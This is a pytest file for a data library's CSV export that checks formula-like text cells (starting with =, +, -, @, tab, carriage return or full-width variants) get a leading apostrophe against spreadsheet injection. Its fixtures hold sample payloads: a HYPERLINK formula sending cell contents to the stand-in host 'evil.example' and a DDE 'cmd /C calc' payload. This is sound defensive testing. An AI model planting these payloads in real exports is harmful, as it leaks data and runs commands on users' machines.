"""CSV cells no spreadsheet runs: text that starts like a formula gets a leading '.

A user's data file can hold any text: a quote, a name, a title or a note that
starts with =, +, -, @, a tab or a carriage return is a formula to a
spreadsheet that opens the CSV file. Every CSV the library writes guards such
cells of its text columns; numbers stay numbers, and JSON, JSON Lines and
Parquet stay exact.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import attrs
import pytest

import guizhou_bigdata as gb
from guizhou_bigdata.cli import main
from guizhou_bigdata.outputs.columns import (
    CITATIONS,
    ENTITIES,
    FACTS,
    METRICS,
    MILESTONES,
    NUMERIC_TEXT,
)
from guizhou_bigdata.outputs.datapackage import SPREADSHEET_NOTE
from guizhou_bigdata.outputs.formats import FORMULA_STARTS, spreadsheet_text
from guizhou_bigdata.outputs.tables import export

from . import tomltext
from .helpers import write

QUOTE = '=HYPERLINK("http://evil.example/?"&A1,"x") counted -5 widgets'
NAME = "=cmd|' /C calc'!A0"
NAME_ZH = "\uff1d1+1"  # a full-width equals sign
ENTITY_DESCRIPTION = "\tindented with a tab"
ENTITY_QUOTE = "+Testville grew."
SOURCE_TITLE = "@SUM(1) a report"
PUBLISHER = "-Testville Daily"
LABEL = "-Widgets"
METRIC_DESCRIPTION = "\uff0dstarts with a full-width minus"
NOTE = "- see above"
PERIOD_NOTE = "'2019' as the report writes it"
TITLE = "+SUM(1,2)"
MILESTONE_NOTE = "@SUM(1)"
MILESTONE_QUOTE = "\uff0bTestville opened its widget park."  # full-width plus

DOCUMENT: dict[str, tomltext.Value] = {
    "source": [
        {
            "id": "test-source",
            "title": SOURCE_TITLE,
            "publisher": PUBLISHER,
            "published": "2020-05-01",
        }
    ],
    "place": [
        {
            "id": "testville",
            "name": NAME,
            "name_zh": NAME_ZH,
            "aliases": ["=alias"],
            "description": ENTITY_DESCRIPTION,
            "kind": "prefecture_city",
            "citations": [{"source": "test-source", "quote": ENTITY_QUOTE}],
        }
    ],
    "metric": [
        {
            "id": "widgets",
            "label": LABEL,
            "kind": "count",
            "unit": "enterprise",
            "default_subject": "testville",
            "description": METRIC_DESCRIPTION,
        }
    ],
    "fact": [
        {
            "id": "testville.widgets.2019",
            "metric": "widgets",
            "subject": "testville",
            "period": "2019",
            "value": "-5",
            "unit": "enterprise",
            "bound": "exact",
            "modality": "actual",
            "quote": QUOTE,
            "source": "test-source",
            "note": NOTE,
            "period_note": PERIOD_NOTE,
        }
    ],
    "milestone": [
        {
            "id": "testville.widget_park",
            "date": "2019-03",
            "title": TITLE,
            "note": MILESTONE_NOTE,
            "subjects": ["testville"],
            "citations": [{"source": "test-source", "quote": MILESTONE_QUOTE}],
        }
    ],
}

# What each guarded cell holds, by table and column: the text itself.
TEXT = {
    "facts": {
        "quote": QUOTE,
        "note": NOTE,
        "period_note": PERIOD_NOTE,
        "source_title": SOURCE_TITLE,
        "source_publisher": PUBLISHER,
    },
    "citations": {"quote": QUOTE},
    "sources": {"title": SOURCE_TITLE, "publisher": PUBLISHER},
    "metrics": {"label": LABEL, "description": METRIC_DESCRIPTION},
    "entities": {
        "name": NAME,
        "name_zh": NAME_ZH,
        "description": ENTITY_DESCRIPTION,
        "quote": ENTITY_QUOTE,
    },
    "milestones": {"title": TITLE, "note": MILESTONE_NOTE, "quote": MILESTONE_QUOTE},
}
# Cells that must come back exactly as they are: numbers, decimal text, enums, JSON.
EXACT = {
    "value": "-5.0",
    "value_exact": "-5",
    "stated_value": "-5",
    "interval_lower": "-5",
    "interval_upper": "-5",
    "bound": "exact",
    "modality": "actual",
    "rank": "normal",
    "period_precision": "year",
}


@pytest.fixture
def mine(tmp_path: Path) -> gb.Registry:
    path = write(tmp_path, "mine.toml", tomltext.dumps(DOCUMENT))
    return gb.load_registry(path, bundled=False)


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_facts_csv_guards_text_cells_and_leaves_numbers(tmp_path: Path, mine: gb.Registry) -> None:
    # The loader keeps such text as written: a quote may well start with '-' or '+'.
    (fact,) = mine.facts()
    assert (fact.citations[0].quote, fact.note, fact.period_note) == (QUOTE, NOTE, PERIOD_NOTE)
    (row,) = csv_rows(export(tmp_path / "facts.csv", registry=mine))
    for column, text in TEXT["facts"].items():
        assert row[column] == "'" + text, column
    for column, value in EXACT.items():
        assert row[column] == value, column
    # The JSON of every citation starts with '[': exact, the quote inside unguarded.
    assert json.loads(row["citations"]) == [{"source": "test-source", "quote": QUOTE}]
    # No text cell of the file starts like a formula.
    text_columns = [column.name for column in FACTS.columns if column.text]
    assert not [name for name in text_columns if row[name].startswith(FORMULA_STARTS)]


def test_pandas_reads_guarded_text_and_unchanged_numbers(tmp_path: Path, mine: gb.Registry) -> None:
    pd = pytest.importorskip("pandas")
    path = export(tmp_path / "facts.csv", registry=mine)
    frame = pd.read_csv(path, dtype=dict.fromkeys(NUMERIC_TEXT, "string"))
    assert frame.loc[0, "quote"] == "'" + QUOTE
    assert frame.loc[0, "note"] == "'" + NOTE
    assert frame.loc[0, "value"] == -5.0
    assert frame.loc[0, "value_exact"] == "-5"
    assert frame.loc[0, "interval_lower"] == "-5"
    # The one line docs/exports.md gives: text back exactly, numbers untouched.
    frame = frame.replace(r"^'", "", regex=True)
    for column, text in TEXT["facts"].items():
        assert frame.loc[0, column] == text, column
    assert frame.loc[0, "value"] == -5.0
    assert frame.loc[0, "value_exact"] == "-5"
    assert frame.loc[0, "bound"] == "exact"


def test_polars_strips_the_guard_in_one_line(tmp_path: Path, mine: gb.Registry) -> None:
    pl = pytest.importorskip("polars")
    path = export(tmp_path / "facts.csv", registry=mine)
    frame = pl.read_csv(path, schema_overrides=dict.fromkeys(NUMERIC_TEXT, pl.String))
    assert frame["quote"][0] == "'" + QUOTE
    frame = frame.with_columns(pl.col(pl.String).str.strip_prefix("'"))
    assert [frame[column][0] for column in TEXT["facts"]] == list(TEXT["facts"].values())
    assert (frame["value"][0], frame["value_exact"][0]) == (-5.0, "-5")


def test_every_table_of_the_data_package_guards_its_text(tmp_path: Path, mine: gb.Registry) -> None:
    pd = pytest.importorskip("pandas")
    path = export(tmp_path / "package" / "datapackage.json", registry=mine)
    described = json.loads(path.read_text(encoding="utf-8"))
    files = {item["name"]: path.parent / item["path"] for item in described["resources"]}
    for table, cells in TEXT.items():
        (row,) = csv_rows(files[table])
        (read,) = pd.read_csv(files[table], dtype=str, keep_default_na=False).to_dict("records")
        for column, text in cells.items():
            assert row[column] == read[column] == "'" + text, (table, column)
    (fact,) = csv_rows(files["facts"])
    for column, value in EXACT.items():
        assert fact[column] == value, column
    (citation,) = csv_rows(files["citations"])
    assert citation["number"] == "1"
    (entity,) = csv_rows(files["entities"])
    assert (entity["type"], entity["kind"]) == ("place", "prefecture_city")
    assert json.loads(entity["aliases"]) == ["=alias"]
    (milestone,) = csv_rows(files["milestones"])
    assert (milestone["date_precision"], milestone["subjects"]) == ("month", "testville")
    assert SPREADSHEET_NOTE in described["description"]


def test_frictionless_validates_the_guarded_package(tmp_path: Path, mine: gb.Registry) -> None:
    frictionless = pytest.importorskip("frictionless")
    path = export(tmp_path / "datapackage.json", registry=mine)
    report = frictionless.validate(str(path))
    assert report.valid, report.flatten(["type", "note"])
    package = frictionless.Package(str(path))
    (fact,) = package.get_resource("facts").read_rows()
    # The Table Schema's types hold: the number is a number, the decimal text exact.
    assert (fact["value"], fact["value_exact"], fact["bound"]) == (-5, "-5", "exact")
    assert fact["quote"] == "'" + QUOTE
    (milestone,) = package.get_resource("milestones").read_rows()
    assert milestone["title"] == "'" + TITLE


def test_the_decimal_columns_are_the_only_text_left_alone() -> None:
    """Numbers written as text are numbers to a reader; enum values never look like formulas."""
    left_alone = {
        (table.name, column.name)
        for table in (FACTS, CITATIONS, METRICS, ENTITIES, MILESTONES)
        for column in table.columns
        if column.type.value == "string" and not column.text
    }
    assert left_alone == {
        ("facts", name)
        for name in ("value_exact", "stated_value", "interval_lower", "interval_upper")
    }
    assert {name for _, name in left_alone} <= set(NUMERIC_TEXT)
    for table in (FACTS, METRICS, ENTITIES, MILESTONES):
        for column in table.columns:
            assert all(spreadsheet_text(value) == value for value in column.enum)


def test_only_csv_is_guarded_json_and_parquet_stay_exact(tmp_path: Path, mine: gb.Registry) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    (csv_row,) = csv_rows(export(tmp_path / "facts.csv", registry=mine))
    (json_row,) = json.loads(export(tmp_path / "facts.json", registry=mine).read_text("utf-8"))
    lines = export(tmp_path / "facts.jsonl", registry=mine).read_text("utf-8").splitlines()
    (parquet_row,) = pq.read_table(export(tmp_path / "facts.parquet", registry=mine)).to_pylist()
    rows: list[dict[str, Any]] = [json_row, *map(json.loads, lines), parquet_row]
    for row in rows:
        assert {column: row[column] for column in TEXT["facts"]} == TEXT["facts"]
        assert (row["value"], row["value_exact"]) == (-5.0, "-5")
    assert {column: csv_row[column] for column in TEXT["facts"]} == {
        column: "'" + text for column, text in TEXT["facts"].items()
    }


def test_a_carriage_return_first_is_guarded(tmp_path: Path, mine: gb.Registry) -> None:
    """The loader refuses a carriage return in text; a registry built in Python may hold one."""
    (fact,) = mine.facts()
    built = gb.Registry(
        sources=mine.sources(),
        metrics=mine.metrics(),
        entities=mine.entities(),
        milestones=mine.timeline(),
        facts=(attrs.evolve(fact, note="\r=1+1"),),
    )
    (row,) = csv_rows(export(tmp_path / "facts.csv", registry=built))
    assert row["note"] == "'\r=1+1"


def test_the_command_line_csv_is_guarded_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, "mine.toml", tomltext.dumps(DOCUMENT))
    assert main(["facts", "--data", str(path), "--subject", "testville", "--format", "csv"]) == 0
    (row,) = csv.DictReader(capsys.readouterr().out.splitlines())
    assert (row["quote"], row["note"], row["value_exact"]) == ("'" + QUOTE, "'" + NOTE, "-5")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff201", "'\uff201"),
        ("'quoted'", "''quoted'"),  # so that removing one ' is always exact
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("Guiyang", "Guiyang"),
    ],
)
def test_which_text_is_guarded(text: str, written: str) -> None:
    assert spreadsheet_text(text) == written
    assert written.removeprefix("'") == text
